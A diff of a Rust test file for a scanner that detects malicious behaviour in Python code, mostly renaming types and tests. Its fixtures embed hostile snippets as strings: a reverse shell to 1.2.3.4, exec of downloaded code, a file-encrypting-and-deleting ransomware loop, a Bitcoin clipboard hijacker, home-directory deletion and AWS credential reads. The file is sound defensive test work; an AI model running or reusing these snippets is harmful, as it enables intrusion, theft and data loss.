@@ -1,27 +1,27 @@
 use super::*;
-use crate::act::{CodeOrigin, Taint};
+use crate::action::{CodeOrigin, Taint};
 
-fn acts(text: &str) -> Acts {
+fn actions(text: &str) -> Actions {
     read(text).unwrap_or_else(|error| panic!("{error}: {text}"))
 }
 
 fn executes(text: &str) -> Option<CodeOrigin> {
-    acts(text).located.into_iter().find_map(|seen| match seen.act {
-        Act::Executes(code) => Some(code),
+    actions(text).located.into_iter().find_map(|seen| match seen.action {
+        Action::ExecutesCode(code) => Some(code),
         _ => None,
     })
 }
 
 fn sends(text: &str) -> Taint {
-    let sent = acts(text).located.into_iter().find_map(|seen| match seen.act {
-        Act::Network { sends, .. } if sends.is_secret() => Some(sends),
+    let sent = actions(text).located.into_iter().find_map(|seen| match seen.action {
+        Action::Connects { sends, .. } if sends.is_secret() => Some(sends),
         _ => None,
     });
     sent.unwrap_or_default()
 }
 
 fn inner(text: &str) -> Vec<String> {
-    acts(text).embedded.into_iter().map(|inner| inner.text).collect()
+    actions(text).embedded.into_iter().map(|inner| inner.text).collect()
 }
 
 #[test]
@@ -45,7 +45,7 @@ fn credentials_flow_to_hosts() {
 }
 
 #[test]
-fn logging_in_is_no_theft() {
+fn login_tokens_are_not_reported_as_sent() {
     let text = "import os, requests\nk = os.environ['API_KEY']\nrequests.get('https://api.example', headers={'Authorization': f'Bearer {k}'})";
     assert!(!sends(text).is_secret());
     let text = "import os, subprocess\nsubprocess.run(['ls'], env={**os.environ, 'A': 'b'})";
@@ -53,7 +53,7 @@ fn logging_in_is_no_theft() {
 }
 
 #[test]
-fn code_from_elsewhere() {
+fn downloaded_code_is_reported() {
     let fetched = Some(CodeOrigin::Fetched("https://a.example/x".into()));
     assert_eq!(
         executes("import requests\nexec(requests.get('https://a.example/x').text)"),
@@ -96,24 +96,24 @@ fn constants_are_folded() {
 }
 
 #[test]
-fn shells_for_others() {
+fn reverse_shells_are_found() {
     let text = "import socket, subprocess, os\ns = socket.socket()\ns.connect(('1.2.3.4', 9))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])";
-    assert!(acts(text).located.iter().any(|seen| seen.act == Act::ReverseShell));
+    assert!(actions(text).located.iter().any(|seen| seen.action == Action::ReverseShell));
 }
 
 #[test]
-fn what_is_no_python() {
+fn invalid_python_is_an_error() {
     assert!(read("print 'hello'\n").is_err());
     assert!(read(&"(".repeat(100_000)).is_err());
 }
 
-fn has(text: &str, wanted: &Act) -> bool {
-    acts(text).located.iter().any(|seen| seen.act == *wanted)
+fn has(text: &str, wanted: &Action) -> bool {
+    actions(text).located.iter().any(|seen| seen.action == *wanted)
 }
 
 fn hosts(text: &str) -> Vec<(String, Vec<String>)> {
-    let network = acts(text).located.into_iter().filter_map(|seen| match seen.act {
-        Act::Network { to, log_in, .. } => Some((to, log_in)),
+    let network = actions(text).located.into_iter().filter_map(|seen| match seen.action {
+        Action::Connects { to, log_in, .. } => Some((to, log_in)),
         _ => None,
     });
     network.collect()
@@ -166,7 +166,7 @@ fn hosts_and_secrets_of_sessions_are_known() {
 }
 
 #[test]
-fn files_keep_what_they_were_written_with() {
+fn taint_flows_through_written_files() {
     for text in [
         "import urllib.request, subprocess, os, tempfile\np = os.path.join(tempfile.gettempdir(), 'helper')\nurllib.request.urlretrieve('https://a.example/x', p)\nsubprocess.Popen([p])",
         "import requests, os\nwith open('/tmp/h', 'wb') as f:\n    f.write(requests.get('https://a.example/x').content)\nos.chmod('/tmp/h', 0o755)",
@@ -200,23 +200,29 @@ fn functions_of_other_files_are_known() {
         assert!(read_with(main, &mut state).is_ok());
         let found = read_with(store, &mut state).unwrap_or_default();
         let sent = found.located.iter().any(
-            |seen| matches!(&seen.act, Act::Network { sends, .. } if sends.credential.is_some()),
+            |seen| matches!(&seen.action, Action::Connects { sends, .. } if sends.credential.is_some()),
         );
         assert!(sent);
     }
 }
 
 #[test]
-fn places_are_named_once() {
+fn credential_paths_are_recorded_once() {
     let text = "import os\np = os.path.join(os.path.expanduser('~'), '.aws', 'credentials')\nq = '~/.aws/credentials'";
-    let names = acts(text).located.into_iter().filter(|seen| matches!(seen.act, Act::Names(_)));
+    let names = actions(text)
+        .located
+        .into_iter()
+        .filter(|seen| matches!(seen.action, Action::MentionsCredentials(_)));
     assert_eq!(names.count(), 1);
-    assert!(!has("'''Reads ~/.aws/credentials.'''", &Act::Names("AWS credentials")));
+    assert!(!has(
+        "'''Reads ~/.aws/credentials.'''",
+        &Action::MentionsCredentials("AWS credentials")
+    ));
 }
 
 #[test]
-fn people_are_asked_in_windows() {
-    let asks = Act::Asks("a password in a window of its own");
+fn password_dialogs_are_found() {
+    let asks = Action::AsksForSecret("a password in a window of its own");
     assert!(has(
         "from tkinter import simpledialog\nsimpledialog.askstring('a', 'b', show='*')",
         &asks
@@ -226,23 +232,23 @@ fn people_are_asked_in_windows() {
 }
 
 #[test]
-fn files_and_clipboards_of_the_user() {
-    let ransom = Act::Deletes("the user's files after encrypting them".into());
+fn user_files_and_clipboard_are_tainted() {
+    let ransom = Action::DestroysData("the user's files after encrypting them".into());
     let text = "import pathlib\nfrom cryptography.fernet import Fernet\nf = Fernet(Fernet.generate_key())\nfor p in pathlib.Path('x').rglob('*'):\n    p.with_suffix('.enc').write_bytes(f.encrypt(p.read_bytes()))\n    p.unlink()";
     assert!(has(text, &ransom));
     assert!(!has(&text.replace("    p.unlink()", "    print(p)"), &ransom));
-    let swap = Act::Obscures("what the user copies is replaced");
+    let swap = Action::Obfuscates("the clipboard content of the user is replaced");
     let text = "import re, pyperclip\nwhile True:\n    if re.match('^bc1', pyperclip.paste()):\n        pyperclip.copy('bc1x')";
     assert!(has(text, &swap));
     assert!(!has("import re, pyperclip\nre.match('a', 'b')\npyperclip.copy('x')", &swap));
     let deletes =
         |path: &str| format!("import shutil, os\nshutil.rmtree(os.path.expanduser('{path}'))");
-    assert!(has(&deletes("~/Documents"), &Act::Deletes("~/Documents".into())));
-    assert!(!has(&deletes("~/Documents/cache"), &Act::Deletes("~/Documents/cache".into())));
+    assert!(has(&deletes("~/Documents"), &Action::DestroysData("~/Documents".into())));
+    assert!(!has(&deletes("~/Documents/cache"), &Action::DestroysData("~/Documents/cache".into())));
 }
 
 #[test]
-fn own_work_stays_quiet() {
+fn harmless_scripts_have_no_actions() {
     for text in [
         "import requests, json\nconfig = json.load(open('config.json'))\nrequests.post(config['url'], json={'text': input()})",
         "import os, requests\nconfig = {'token': os.environ['X_TOKEN'], 'url': 'https://a.example'}\nrequests.post(config['url'], json={'q': 1})",
@@ -253,7 +259,7 @@ fn own_work_stays_quiet() {
 }
 
 #[test]
-fn calls_within_calls_end() {
+fn nested_calls_terminate() {
     let function = |n: usize| format!("def f{n}(x):\n    f{m}(x)\n    f{m}(x)\n", m = n + 1);
     let functions = (0..40).map(function).collect::<Vec<_>>().concat();
     assert!(read(&format!("{functions}f0(1)\n")).is_ok());
@@ -262,17 +268,18 @@ fn calls_within_calls_end() {
 }
 
 fn sends_private(text: &str) -> bool {
-    let private = |act: &Act| matches!(act, Act::Network { sends, .. } if sends.private.is_some());
-    acts(text).located.iter().any(|seen| private(&seen.act))
+    let private = |action: &Action| matches!(action, Action::Connects { sends, .. } if sends.private.is_some());
+    actions(text).located.iter().any(|seen| private(&seen.action))
 }
 
 fn talks_to(text: &str, host: &str) -> bool {
-    let talks = |act: &Act| matches!(act, Act::Network { to, .. } if to.contains(host));
-    acts(text).located.iter().any(|seen| talks(&seen.act))
+    let talks =
+        |action: &Action| matches!(action, Action::Connects { to, .. } if to.contains(host));
+    actions(text).located.iter().any(|seen| talks(&seen.action))
 }
 
 #[test]
-fn code_that_is_put_together_is_read() {
+fn assembled_code_is_scanned() {
     for code in [
         "'import x;x.get(%r)' % u",
         "'import x;x.get(%(u)r)' % {'u': u}",
@@ -288,7 +295,7 @@ fn code_that_is_put_together_is_read() {
 }
 
 #[test]
-fn defaults_are_addresses() {
+fn default_addresses_are_used() {
     for url in [
         "os.getenv('X', 'https://a.example/v1')",
         "os.environ.get('X', 'https://a.example/v1')",
@@ -304,7 +311,7 @@ fn defaults_are_addresses() {
 }
 
 #[test]
-fn what_users_of_an_application_send() {
+fn web_form_data_is_tracked() {
     for text in [
         "from flask import request\nimport requests\ndef t():\n    requests.post('https://a.example', json=dict(request.headers))",
         "from flask import request\nimport requests\n@app.before_request\ndef t():\n    requests.post('https://a.example', json=request.get_json())",
@@ -324,7 +331,7 @@ fn what_users_of_an_application_send() {
 }
 
 #[test]
-fn mails_to_somebody_else() {
+fn fixed_mail_recipients_are_found() {
     for text in [
         "r = [x.strip() for x in to.split(',')]\nr.append('a@b.example')\ns.send_message(m, to_addrs=r)",
         "s.sendmail(me, [to] + ['a@b.example'], t)",
